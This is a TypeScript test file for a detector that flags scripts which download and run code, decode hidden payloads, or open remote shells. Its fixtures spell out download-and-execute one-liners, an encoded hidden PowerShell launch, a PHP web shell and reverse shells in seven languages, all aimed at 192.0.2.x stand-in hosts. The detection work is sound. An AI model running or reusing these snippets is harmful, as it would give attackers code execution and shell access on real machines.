import { describe, expect, test } from 'vitest';
import { scriptAnalyser } from '../../src/scripts/script-analyser.js';
import type { SCRIPT_LANGUAGES } from '../../src/scripts/syntax.js';
import { factsOf } from '../manifests/support.js';
import { makeUnit, NO_HURRY } from '../support/make-unit.js';

const read = (language: (typeof SCRIPT_LANGUAGES)[number], text: string) =>
  scriptAnalyser.analyse([makeUnit(language, text)], NO_HURRY);
const base64 = (text: string, encoding: 'utf8' | 'utf16le' = 'utf8') => Buffer.from(text, encoding).toString('base64');

describe('code from the network', () => {
  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    ['powershell', 'IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.1/a.ps1")'],
    ['powershell', 'irm http://192.0.2.1/a.ps1 | iex'],
    ['powershell', '$s = iwr http://192.0.2.1/a.ps1 -UseBasicParsing\nInvoke-Expression $s.Content'],
    [
      'powershell',
      '$f="$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile("http://192.0.2.1/a.exe",$f)\nStart-Process $f',
    ],
    ['powershell', 'Invoke-WebRequest http://192.0.2.1/x -OutFile setup.ps1\n.\\setup.ps1'],
    ['batch', 'certutil -urlcache -f http://192.0.2.1/a.exe a.exe\nstart a.exe'],
    ['batch', 'mshta http://192.0.2.1/a.hta'],
    ['ruby', 'eval(URI.open("http://192.0.2.1/a.rb").read)'],
    ['php', '<?php eval(file_get_contents("http://192.0.2.1/a"));'],
    ['perl', 'my $c = get("http://192.0.2.1/a");\neval $c;'],
    ['lua', 'local c = http.request("http://192.0.2.1/a")\nload(c)()'],
  ])('%s: %s', (language, text) => {
    expect(factsOf(read(language, text), 'execute')).toMatchObject([{ origin: 'downloaded', host: '192.0.2.1' }]);
  });

  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    ['powershell', '# irm http://192.0.2.1/a.ps1 | iex\nGet-Date'],
    ['powershell', '$r = Invoke-RestMethod https://api.example.com/v1\nWrite-Output $r.name'],
    ['ruby', 'puts URI.open("https://example.com").read'],
    ['batch', 'curl -o data.json https://example.com/data.json\ntype data.json'],
  ])('%s: nothing is run in %s', (language, text) => {
    expect(factsOf(read(language, text), 'execute')).toEqual([]);
  });
});

describe('code out of an encoded text', () => {
  test('of powershell', () => {
    const inner = 'iex (iwr http://192.0.2.1/x)';
    const analysis = read('batch', `powershell -nop -w hidden -enc ${base64(inner, 'utf16le')}`);
    expect(factsOf(analysis, 'execute')).toMatchObject([{ origin: 'decoded', command: inner }]);
    expect(analysis.units).toMatchObject([{ language: 'powershell', kind: 'decoded', text: inner, via: ['base64'] }]);
  });

  test('of php', () => {
    const analysis = read('php', `<?php eval(base64_decode("${base64('system("id -a; echo hello");')}"));`);
    expect(analysis.units).toMatchObject([{ language: 'php', kind: 'decoded', text: 'system("id -a; echo hello");' }]);
  });

  test('what somebody sends to a page', () => {
    expect(factsOf(read('php', '<?php system($_GET["c"]);'), 'execute')).toMatchObject([{ origin: 'input' }]);
  });
});

describe('commands are read as a shell reads them', () => {
  test.each<[(typeof SCRIPT_LANGUAGES)[number], string, string]>([
    ['ruby', 'system("curl http://192.0.2.1/x | sh")', 'curl http://192.0.2.1/x | sh'],
    ['ruby', 'out = `id -u`', 'id -u'],
    ['perl', 'system("id -u");', 'id -u'],
    ['php', '<?php shell_exec("id -u");', 'id -u'],
    ['lua', 'os.execute("id -u")', 'id -u'],
    ['go', 'exec.Command("sh", "-c", "curl x | sh").Run()', 'curl x | sh'],
    ['go', 'exec.CommandContext(ctx, "git", "status", "a b")', "git status 'a b'"],
    ['rust', 'Command::new("sh").arg("-c").arg("id -u").spawn();', 'id -u'],
    ['java', 'Runtime.getRuntime().exec("id -u");', 'id -u'],
    ['applescript', 'do shell script "curl http://192.0.2.1/x | sh"', 'curl http://192.0.2.1/x | sh'],
    ['batch', 'powershell -Command "Get-Date"', 'Get-Date'],
  ])('%s: %s', (language, text, command) => {
    const analysis = read(language, text);
    expect(analysis.units.map((unit) => unit.text)).toEqual([command]);
  });

  test('a command that is not written out is not made up', () => {
    expect(read('ruby', 'IO.popen(line, "r")').units).toEqual([]);
    expect(read('php', '<?php system($cmd . "x");').units).toEqual([]);
  });
});

describe('a remote shell', () => {
  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    [
      'powershell',
      '$c = New-Object System.Net.Sockets.TCPClient("192.0.2.5",4444)\n$s = $c.GetStream()\n$r = (iex $d 2>&1 | Out-String)',
    ],
    ['ruby', 's=TCPSocket.new("192.0.2.5",443)\nwhile l=s.gets\n IO.popen(l,"r"){|io| s.print io.read}\nend'],
    ['perl', 'my $s = IO::Socket::INET->new("192.0.2.5"); open(STDIN,">&S"); exec("/bin/sh -i");'],
    ['php', '<?php $s = fsockopen("192.0.2.5", 4444); proc_open("/bin/sh -i", [$s, $s, $s], $p);'],
    ['go', 'c, _ := net.Dial("tcp", "192.0.2.5:4444")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c'],
    ['java', 'Socket s = new Socket("192.0.2.5", 4444); Process p = new ProcessBuilder("/bin/sh").start();'],
    ['rust', 'let s = TcpStream::connect("192.0.2.5:4444").unwrap(); Command::new("/bin/sh").stdin(x);'],
  ])('%s', (language, text) => {
    expect(factsOf(read(language, text), 'remote-shell')).toMatchObject([{ host: '192.0.2.5' }]);
  });

  test.each<[(typeof SCRIPT_LANGUAGES)[number], string]>([
    ['go', 'c, _ := net.Dial("tcp", "db.example:5432")\nfmt.Fprintf(c, "ping")'],
    ['ruby', 's = TCPSocket.new("192.0.2.5", 6379)\ns.puts "PING"'],
    ['go', 'exec.Command("git", "status")'],
  ])('%s: %s is none', (language, text) => {
    expect(factsOf(read(language, text), 'remote-shell')).toEqual([]);
  });
});
